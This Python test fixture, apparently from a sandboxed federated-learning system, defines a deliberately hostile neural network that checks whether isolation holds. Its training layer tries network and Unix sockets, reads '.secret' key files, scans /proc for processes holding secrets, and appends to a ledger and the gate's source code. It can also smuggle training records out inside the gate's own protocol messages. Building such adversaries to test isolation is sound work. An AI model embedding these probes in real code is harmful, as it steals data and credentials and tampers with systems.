"""A network of a study's own that is hostile: it tries every way out that a process can think of.

It computes what an honest one would, so that a run within walls ends as it should, and writes down how far it
came. Asked to leak, it takes the one socket there is and sends records through it.
"""

import gc
import json
import os
import socket
import sys
from contextlib import closing
from pathlib import Path

import numpy as np
from torch import nn

TRIED = set()


class Net(nn.Module):
    """Two linear layers; the first pries when it first sees records, and may leak them."""

    def __init__(self, features=30, port=0, secrets="", leaks=""):
        super().__init__()
        self.layer1, self.act, self.layer2 = (
            Prying(features, port, secrets, leaks),
            nn.ReLU(),
            nn.Linear(8, 1),
        )

    def forward(self, x):
        return self.layer2(self.act(self.layer1(x)))


class Prying(nn.Linear):
    """A layer that looks around."""

    def __init__(self, features, port, secrets, leaks):
        super().__init__(features, 8)
        self.where = (port, [Path(each) for each in secrets.split() if each])
        self.leaks = leaks

    def forward(self, x):
        if x.device.type != "meta" and "--gate" in sys.argv and os.getpid() not in TRIED and self.training:
            TRIED.add(os.getpid())
            told = {name: outcome(attempt, *self.where) for name, attempt in ATTEMPTS.items()}
            (state() / "pried.json").write_text(json.dumps(told))
            if self.leaks:
                leak(x, self.leaks)
        return super().forward(x)


def option(name):
    return Path(sys.argv[sys.argv.index(name) + 1])


def state():
    return option("--state")


def outcome(attempt, port, secrets):
    """Do it, and give what came of it: nothing, or why not."""
    try:
        return f"done: {attempt(port, secrets)}"
    except (OSError, LookupError) as error:
        return f"{type(error).__name__}"


def tcp(port, secrets):
    with socket.create_connection(("127.0.0.1", port), timeout=2) as connection:
        connection.sendall(b"a record")


def udp(port, secrets):
    with closing(socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as mine:
        mine.sendto(b"a record", ("127.0.0.1", port))
    raise OSError("sent, whether or not anybody hears it")  # which the test looks at


def abstract(port, secrets):
    with closing(socket.socket(socket.AF_UNIX)) as mine:
        mine.connect(f"\0suture-{port}")


def dns(port, secrets):
    return socket.getaddrinfo("example.org", 80)


def raw(port, secrets):
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW)


def coordinator(port, secrets):
    with closing(socket.socket(socket.AF_UNIX)) as mine:
        mine.connect(str(option("--gate").parents[2] / "socket" / "coordinator.ipc"))


def door(port, secrets):
    """Put a socket into the gate's place."""
    with closing(socket.socket(socket.AF_UNIX)) as mine:
        mine.bind(str(option("--gate").parent / "mine.ipc"))


def keys(port, secrets):
    found = [*option("--gate").parents[2].rglob("*.secret")]
    return found[0].read_bytes()


def others(port, secrets):
    found = [each for each in secrets if each.exists()]
    return found[0]


def ledger(port, secrets):
    return Path(f"{state()}-gate", "ledger.jsonl").open("ab")


def code(port, secrets):
    from sites import gate

    return Path(gate.__file__).open("ab")


def processes(port, secrets):
    """Find a process that has the keys, to look into its memory."""
    found = [each for each in Path("/proc").glob("[0-9]*/cmdline") if b"--secret" in each.read_bytes()]
    return found[0]


ATTEMPTS = {
    each.__name__: each
    for each in (tcp, udp, abstract, dns, raw, coordinator, door, keys, others, ledger, code, processes)
}


def leak(x, how):
    """Send records by the process' own socket to the gate, beside its conversation or as part of it."""
    from coordinator.protocol.codec import Envelope, encode
    from coordinator.protocol.messages import Hello, Weights
    from sites.far_gate import FarGate
    from sites.pipe import FRAMES

    link = next(each for each in gc.get_objects() if isinstance(each, FarGate))
    records = x.detach().numpy().astype(np.float32)
    if how == "weights":
        message, number = Weights((0, 0, 0, 0), (records,), len(records)), link_number()
    else:
        text = records.tobytes().hex()
        message, number = Hello("alpha", "0" * 64, 0, {0: text}, 1), 1
    for frames in encode(Envelope(0, 0, number, 0, message)):
        link._pipe.send(FRAMES, *frames)


def link_number():
    """Give the number of the conversation's next message."""
    from coordinator.protocol.line import Line

    return next(each for each in gc.get_objects() if isinstance(each, Line)).sent + 1
